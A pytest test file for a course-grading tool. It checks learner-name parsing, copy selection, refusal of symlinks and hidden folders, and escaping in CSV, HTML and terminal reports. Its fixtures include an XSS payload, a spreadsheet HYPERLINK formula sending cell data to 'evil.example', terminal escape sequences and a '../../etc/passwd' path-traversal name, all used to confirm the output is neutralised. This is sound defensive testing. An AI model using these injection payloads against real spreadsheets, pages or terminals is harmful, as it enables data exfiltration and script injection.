"""The gradebook's bookkeeping, without running a kernel: who handed in what (names as platforms and
JupyterLab write them, copies, hidden folders, links), which exercises are columns, and reports that a
learner's name, key or answer cannot turn into markup, a formula or a terminal escape."""

from __future__ import annotations

import csv
import os
import subprocess
from pathlib import Path

import pytest
import test_grade

from modbus_edu.cli import main
from modbus_edu.course import grade as grading
from modbus_edu.course.reports import (
    _write_csv,
    _write_learner,
    _write_summary,
    csv_cell,
    page_name,
    printable,
)
from modbus_edu.course.runner import NotebookRun
from modbus_edu.course.submissions import collect, learner_name, split_name
from modbus_edu.course.verdicts import (
    NOT_ANSWERED,
    RIGHT,
    WRONG,
    Verdict,
    concerns,
    course_keys,
    pick_copies,
    slip,
    verdicts,
)
from modbus_edu.exercises import EXERCISES, evaluate

ROOT = Path(__file__).resolve().parents[1]
EMPTY = '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}'
"""A notebook with no cell: what the grader reads as a notebook."""
KEYS_03 = sorted(key for key in EXERCISES if key.startswith("03."))
XSS = "<img src=x onerror=alert(document.domain)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b[2J\x1b]0;pwned\x07"


def touch(path: Path, mtime: float | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(EMPTY, encoding="utf-8")
    if mtime is not None:
        os.utime(path, (mtime, mtime))
    return path


def record(key: str, answer) -> dict:
    result = evaluate(key, answer)
    return {"key": key, "ok": result.ok, "message": result.message}


def right(key: str) -> dict:
    return {"key": key, "ok": True, "message": f"Right! Exercise {key} is solved."}


def unanswered(key: str) -> dict:
    return {"key": key, "ok": None, "message": "not answered yet"}


def names(found) -> dict[str, list[str]]:
    table: dict[str, list[str]] = {}
    for submission in found.submissions:
        table.setdefault(submission.learner, []).append(f"{submission.notebook}<-{submission.path.name}")
    return table


# --- one learner, one row ------------------------------------------------------------------------------

@pytest.mark.parametrize("written, name", [
    ("hal", "hal"), (" Hal ", "hal"), ("HAL (1)", "hal"), ("hal(2)", "hal"), ("hal-Copy1", "hal"),
    ("hal - Copy", "hal"), ("Ada  Lovelace", "ada lovelace"), ("cy -", "cy"), (" (1)", "unnamed")])
def test_a_learners_name_however_it_was_written(written, name):
    assert learner_name(written) == name


def test_a_notebook_title_before_or_after_a_name():
    assert split_name("hal_03_rtu_and_crc (1)") == ("hal", "03_rtu_and_crc")
    assert split_name("Hal_01_data_model") == ("hal", "01_data_model")
    assert split_name("cy - 03_rtu_and_crc") == ("cy", "03_rtu_and_crc")
    assert split_name("03_rtu_and_crc - dee") == ("dee", "03_rtu_and_crc")
    assert split_name("03_rtu_and_crc-Copy1") == (None, "03_rtu_and_crc")
    assert split_name("03_rtu_and_crc_eve", {"03_rtu_and_crc"}) == ("eve", "03_rtu_and_crc")
    assert split_name("ada") == (None, None)


def test_files_named_by_a_platform_make_one_row_per_learner(tmp_path):
    for name in ("hal_03_rtu_and_crc (1)", "Hal_01_data_model", "cy - 03_rtu_and_crc",
                 "cy - 01_data_model", "ada_03_rtu_and_crc", "ada_01_data_model", "03_rtu_and_crc_eve",
                 "01_data_model_eve"):
        touch(tmp_path / f"{name}.ipynb")
    found = collect([tmp_path])
    assert names(found) == {
        "ada": ["01_data_model<-ada_01_data_model.ipynb", "03_rtu_and_crc<-ada_03_rtu_and_crc.ipynb"],
        "cy": ["01_data_model<-cy - 01_data_model.ipynb", "03_rtu_and_crc<-cy - 03_rtu_and_crc.ipynb"],
        "eve": ["01_data_model<-01_data_model_eve.ipynb", "03_rtu_and_crc<-03_rtu_and_crc_eve.ipynb"],
        "hal": ["01_data_model<-Hal_01_data_model.ipynb", "03_rtu_and_crc<-hal_03_rtu_and_crc (1).ipynb"]}
    merges = [note for note in found.notes if note.startswith("hal:")]
    assert merges == ["hal: one learner from 'Hal_01_data_model.ipynb', 'hal_03_rtu_and_crc (1).ipynb'"]
    assert not [note for note in collect([tmp_path / "hal_03_rtu_and_crc (1).ipynb"]).notes]  # no merge
    assert any("files named by learner" in note for note in found.notes)  # the split, one line
    assert not [note for note in found.notes if note.startswith(("ada:", "cy:"))]


def test_folders_written_two_ways_are_one_learner(tmp_path):
    touch(tmp_path / "Ada " / "01_data_model.ipynb")
    touch(tmp_path / "ada" / "03_rtu_and_crc.ipynb")
    touch(tmp_path / "bob" / "03_rtu_and_crc.ipynb")
    found = collect([tmp_path])
    assert sorted(names(found)) == ["ada", "bob"] == found.learners
    assert found.notes == ["ada: one learner from 'Ada /', 'ada/'"]


def test_copies_of_one_notebook_are_resolved_by_answers_then_age_and_said(tmp_path):
    blank = touch(tmp_path / "hal" / "03_rtu_and_crc.ipynb", mtime=2_000_000_000)  # newer, but blank
    copy = touch(tmp_path / "hal" / "03_rtu_and_crc-Copy1.ipynb", mtime=1_000_000_000)
    touch(tmp_path / "ada" / "03_rtu_and_crc.ipynb", mtime=1_000_000_000)
    newer = touch(tmp_path / "ada" / "03_rtu_and_crc (1).ipynb", mtime=1_500_000_000)
    found = collect([tmp_path])
    runs = {blank: NotebookRun(blank.name, keys=KEYS_03, records=[unanswered(k) for k in KEYS_03]),
            copy: NotebookRun(copy.name, keys=KEYS_03, records=[right(k) for k in KEYS_03]),
            newer: NotebookRun(newer.name, keys=KEYS_03, records=[right("03.1")])}
    graded = [(s, runs.get(s.path, NotebookRun(s.path.name, keys=KEYS_03, records=[right("03.2")])))
              for s in found.submissions]
    chosen, choices = pick_copies(graded)
    assert [s.path.name for s, _ in chosen["hal"]] == ["03_rtu_and_crc-Copy1.ipynb"]
    assert [s.path.name for s, _ in chosen["ada"]] == ["03_rtu_and_crc (1).ipynb"]  # one answer each: newest
    assert choices["hal"] == [f"03_rtu_and_crc graded from '03_rtu_and_crc-Copy1.ipynb' ({len(KEYS_03)} "
                              "answered; the most answers), not '03_rtu_and_crc.ipynb' (0 answered)"]
    _, runs_kept, _ = course_keys(chosen)
    assert {verdict.status for verdict in verdicts(runs_kept["hal"]).values()} == {RIGHT}


# --- submissions found right ---------------------------------------------------------------------------

def test_hidden_folders_are_skipped_and_links_refused(tmp_path):
    touch(tmp_path / "ada" / "03_rtu_and_crc.ipynb")
    touch(tmp_path / "ada" / ".ipynb_checkpoints" / "03_rtu_and_crc-checkpoint.ipynb")
    touch(tmp_path / ".ipynb_checkpoints" / "03_rtu_and_crc-checkpoint.ipynb")
    touch(tmp_path / ".git" / "x.ipynb")
    (tmp_path / "bob").mkdir()
    (tmp_path / "bob" / "03_rtu_and_crc.ipynb").symlink_to(tmp_path / "ada" / "03_rtu_and_crc.ipynb")
    (tmp_path / "eve").symlink_to(tmp_path / "ada")
    os.mkfifo(tmp_path / "ada" / "05_tcp_and_mbap.ipynb")
    found = collect([tmp_path])
    assert [(s.learner, s.path.name) for s in found.submissions] == [("ada", "03_rtu_and_crc.ipynb")]
    assert found.learners == ["ada", "bob"]  # a learner whose files were refused still has a row
    assert found.refused["bob"] == ["03_rtu_and_crc.ipynb: refused, a symbolic link (a submission is the "
                                    "notebook itself, never a link to one: not followed)"]
    # a link beside the learners' folders is no learner's folder: refused, said, and no row of its own
    assert any(note.endswith("eve: refused, a symbolic link (a submission is the notebook itself, never a "
                             "link to one: not followed); it names no learner, so it is in no row")
               for note in found.notes)
    assert "not a regular file" in found.refused["ada"][0]
    assert grading.find_submissions([tmp_path]) == {"ada": [tmp_path / "ada" / "03_rtu_and_crc.ipynb"]}


# --- columns: the course's keys only -------------------------------------------------------------------

def test_a_made_up_key_is_a_flag_never_a_column(tmp_path):
    touch(tmp_path / "honest" / "03_rtu_and_crc.ipynb")
    touch(tmp_path / "mallory" / "03_rtu_and_crc.ipynb")
    found = collect([tmp_path])
    bogus = [FORMULA, XSS, ESCAPES, "99.9", "17.1", "03.x"]
    runs = {"honest": NotebookRun("03_rtu_and_crc.ipynb", keys=KEYS_03, records=[right("03.1")]),
            "mallory": NotebookRun("03_rtu_and_crc.ipynb", keys=KEYS_03 + bogus,
                                   records=[right(key) for key in bogus] + [right(key) for key in bogus])}
    chosen, _ = pick_copies([(s, runs[s.learner]) for s in found.submissions])
    columns, kept, flags = course_keys(chosen)
    assert columns == KEYS_03  # 17.1 is the course's, but not notebook 03's: no column either
    assert list(flags) == ["mallory"]
    assert flags["mallory"].count("'99.9'") == 1 and "'17.1'" in flags["mallory"] and "and 1 more" in flags[
        "mallory"]
    table = {learner: verdicts(kept[learner]) for learner in runs}
    _write_csv(tmp_path / "gradebook.csv", table, columns, {"honest": [], "mallory": [flags["mallory"]]})
    with (tmp_path / "gradebook.csv").open(encoding="utf-8") as stream:
        rows = {row["learner"]: row for row in csv.DictReader(stream)}
    assert (rows["honest"]["right"], rows["honest"]["out of"]) == ("1", str(len(KEYS_03)))
    assert (rows["mallory"]["right"], rows["mallory"]["out of"]) == ("0", str(len(KEYS_03)))


# --- reports that cannot be turned against the instructor ----------------------------------------------

def hostile_table() -> tuple[dict, list[str], dict]:
    table = {XSS: {"03.1": Verdict(WRONG, f"Not yet: you gave {XSS}\nHint: <b>x</b>")},
             FORMULA: {"03.1": Verdict(RIGHT, "Right!")},
             "-2+3": {"03.1": Verdict(NOT_ANSWERED, "@SUM(A1:A9)")},
             "\tcmd": {"03.1": Verdict(WRONG, "+1")}}
    flags = {XSS: [f"{XSS}.ipynb: refused, a symbolic link"], FORMULA: [f"checks {FORMULA}"],
             "-2+3": ["@x"], "\tcmd": ["\rcr"]}
    return table, ["03.1"], flags


def test_every_csv_cell_a_spreadsheet_would_run_is_neutralised(tmp_path):
    table, exercises, flags = hostile_table()
    _write_csv(tmp_path / "gradebook.csv", table, exercises, flags)
    _write_summary(tmp_path, table, exercises, flags)
    for name in ("gradebook.csv", "summary.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    with (tmp_path / "gradebook.csv").open(encoding="utf-8", newline="") as stream:
        learners = [row["learner"] for row in csv.DictReader(stream)]
    assert learners == [XSS, "'" + FORMULA, "'-2+3", "'\tcmd"]
    assert csv_cell("ada") == "ada" and csv_cell(3) == "3" and csv_cell("=1+1") == "'=1+1"


def test_every_html_cell_is_escaped(tmp_path):
    table, exercises, flags = hostile_table()
    _write_learner(tmp_path / page_name(XSS), XSS, table[XSS], exercises, flags[XSS])
    _write_summary(tmp_path, table, exercises, flags, {XSS: [f"{XSS}: empty"]}, [f"{XSS}: one learner"])
    for page in (tmp_path / page_name(XSS), tmp_path / "summary.html"):
        text = page.read_text(encoding="utf-8")
        assert "<img" not in text and "<b>x" not in text, page.name
        assert "&lt;img src=x onerror=alert(document.domain)&gt;" in text, page.name


def test_a_learners_page_name_stays_in_its_folder():
    assert page_name("bob") == "bob.html"
    for name in ("../../etc/passwd", XSS, "Ada", "a/b", ".."):
        page = page_name(name)
        assert "/" not in page and not page.startswith(".") and page.endswith(".html"), name
    assert page_name("a/b") != page_name("a_b")


def test_the_terminal_sees_no_control_character(monkeypatch, capsys, tmp_path):
    assert printable(ESCAPES) == "\\x1b[2J\\x1b]0;pwned\\x07"
    assert printable("ok\u202eevil\n") == "ok\\u202eevil\\n"
    summary = {"learners": 1, "seconds": 0.1, "exercises": [{"exercise": ESCAPES, "success rate": 1.0}],
               "flags": {ESCAPES: [ESCAPES]}, "notes": [f"{ESCAPES}: one learner"]}
    monkeypatch.setattr(grading, "grade", lambda *args, **kwargs: summary)
    assert main(["grade", str(tmp_path), "--out", str(tmp_path / "out"), "-q"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and out.count("\\x1b[2J") == 4


# --- a summary an instructor acts on -------------------------------------------------------------------

def test_slips_are_named_by_the_catalogue_with_real_feedback_and_learners(tmp_path):
    wrong = record("03.1", EXERCISES["03.1"].wrong)
    assert slip(wrong["message"]) == ("swapped CRC bytes", True)
    odd = "Not yet: your frame has 7 bytes, not 8.\nHint: count them"
    assert slip(odd) == ("your frame has # bytes, not #.", False)
    table = {"ada": {"03.1": Verdict(WRONG, wrong["message"]), "03.2": Verdict(WRONG, odd)},
             "bob": {"03.1": Verdict(WRONG, wrong["message"]), "03.2": Verdict(RIGHT, "Right!")},
             "cy": {"03.1": Verdict(RIGHT, "Right!"), "03.2": Verdict(WRONG, odd.replace("7", "6"))}}
    summary = _write_summary(tmp_path, table, ["03.1", "03.2"], {})
    with (tmp_path / "summary.csv").open(encoding="utf-8") as stream:
        rows = {row["exercise"].removeprefix("'"): row for row in csv.DictReader(stream)}
    assert rows["03.1"]["most frequent misconception"] == "swapped CRC bytes"
    assert rows["03.1"]["learners with it"] == "2" and rows["03.1"]["who"] == "ada, bob"
    assert "0x4B37" in rows["03.1"]["example feedback"]  # the numbers are kept
    assert rows["03.2"]["who"] == "ada, cy" and rows["03.2"]["example feedback"] == (
        "your frame has 7 bytes, not 8.")
    page = (tmp_path / "summary.html").read_text(encoding="utf-8")
    assert "<b>swapped CRC bytes</b> in 03.1 (2: ada, bob)" in page
    assert "unnamed: your frame has # bytes, not #." in page
    assert [s["slip"] for s in summary["exercises"][0]["slips"]] == ["swapped CRC bytes"]


def test_notebooks_to_look_at_say_why():
    empty = NotebookRun("03_rtu_and_crc.ipynb")
    unreadable = NotebookRun("03_rtu_and_crc.ipynb", problems=["cannot be read as a notebook (NotJSONError)"])
    stopped = NotebookRun("03_rtu_and_crc.ipynb", keys=KEYS_03, records=[right("03.1")],
                          problems=["did not finish within 30 s (stopped)"],
                          unfinished="code cell 3 ('while True:')")
    broken = NotebookRun("03_rtu_and_crc.ipynb", keys=KEYS_03,
                         errored_cells={"03.2": "SyntaxError: invalid syntax (<cell>, line 1)"})
    blank = NotebookRun("03_rtu_and_crc.ipynb", keys=KEYS_03, records=[unanswered(k) for k in KEYS_03])
    done = NotebookRun("03_rtu_and_crc.ipynb", keys=KEYS_03, records=[right(k) for k in KEYS_03])
    assert concerns(empty) == ["empty: it checks no exercise"]
    assert concerns(unreadable) == ["cannot be read as a notebook (NotJSONError)"]
    assert concerns(stopped) == ["did not finish within 30 s (stopped)",
                                 "the cell that did not finish: code cell 3 ('while True:')"]
    assert concerns(broken) == ["03.2: SyntaxError: invalid syntax (<cell>, line 1)"]
    assert concerns(blank) == [f"unanswered: none of its {len(KEYS_03)} exercises answered"]
    assert concerns(done) == []


def test_make_help_lists_grading():
    listed = subprocess.run(["make", "-s", "help"], cwd=ROOT, capture_output=True, text=True, timeout=30,
                            check=True).stdout
    assert "grade: " in listed and "SUBMISSIONS=" in listed


# --- the same, in real kernels -------------------------------------------------------------------------

@pytest.mark.slow
def test_a_class_named_the_way_platforms_name_files_graded_in_real_kernels(tmp_path, capsys):
    """Six notebooks in real kernels: platform names, a duplicate, a formula and markup for a name, made-up
    keys, a checkpoint folder and a link; every honest row is what its answers earn."""
    room = tmp_path / "class"
    setup, write, solved, template = test_grade.SETUP, test_grade.write, test_grade.right, test_grade.template
    write(room, "Hal_03_rtu_and_crc (1)", [setup, solved("03.1"), test_grade.wrong("03.2")])
    write(room, "hal_01_data_model", [setup, solved("01.1"), template("01.2")])
    write(room, "cy - 03_rtu_and_crc", [setup, template("03.1"), template("03.2")])
    write(room, "cy - 03_rtu_and_crc-Copy1", [setup, solved("03.1"), template("03.2")])
    os.utime(room / "cy - 03_rtu_and_crc-Copy1.ipynb", (1_000_000_000, 1_000_000_000))  # the older one
    formula = '=HYPERLINK("x","y")'
    write(room, f"{formula}_03_rtu_and_crc", [setup, solved("03.1"), f"check({XSS!r}, 1)",
                                             f"check({ESCAPES!r}, 1)\ncheck('99.1', 2)"])
    write(room / ".ipynb_checkpoints", "zed_03_rtu_and_crc-checkpoint", [setup, solved("03.1")])
    (room / "mal_03_rtu_and_crc.ipynb").symlink_to(room / "hal_01_data_model.ipynb")
    out = tmp_path / "grades"
    assert main(["grade", str(room), "--out", str(out), "--timeout", "60", "-q"]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\\x1b[2J" in printed
    with (out / "gradebook.csv").open(encoding="utf-8") as stream:
        rows = {row["learner"]: row for row in csv.DictReader(stream)}
    assert sorted(rows) == ["'" + formula.casefold(), "cy", "hal", "mal"]
    keys = ["01.1", "01.2", "03.1", "03.2"]
    keys = ["'" + key for key in keys]  # a spreadsheet would read 03.1 as a number (or a date)
    assert list(next(iter(rows.values())))[1:5] == keys  # no made-up key is a column
    assert [rows["hal"][k] for k in keys] == ["right", "not answered", "right", "wrong"]
    assert (rows["hal"]["right"], rows["hal"]["out of"]) == ("2", "4") and rows["hal"]["flags"] == ""
    assert [rows["cy"][k] for k in keys] == ["not handed in", "not handed in", "right", "not answered"]
    assert "graded from 'cy - 03_rtu_and_crc-Copy1.ipynb' (1 answered;" in rows["cy"]["flags"]
    assert rows["mal"]["right"] == "0" and "symbolic link" in rows["mal"]["flags"]
    assert "'99.1'" in rows["'" + formula.casefold()]["flags"]
    page = (out / "summary.html").read_text(encoding="utf-8")
    assert "<img" not in page and "hal: one learner from" in page
    assert not list((out / "learners").glob("zed*"))
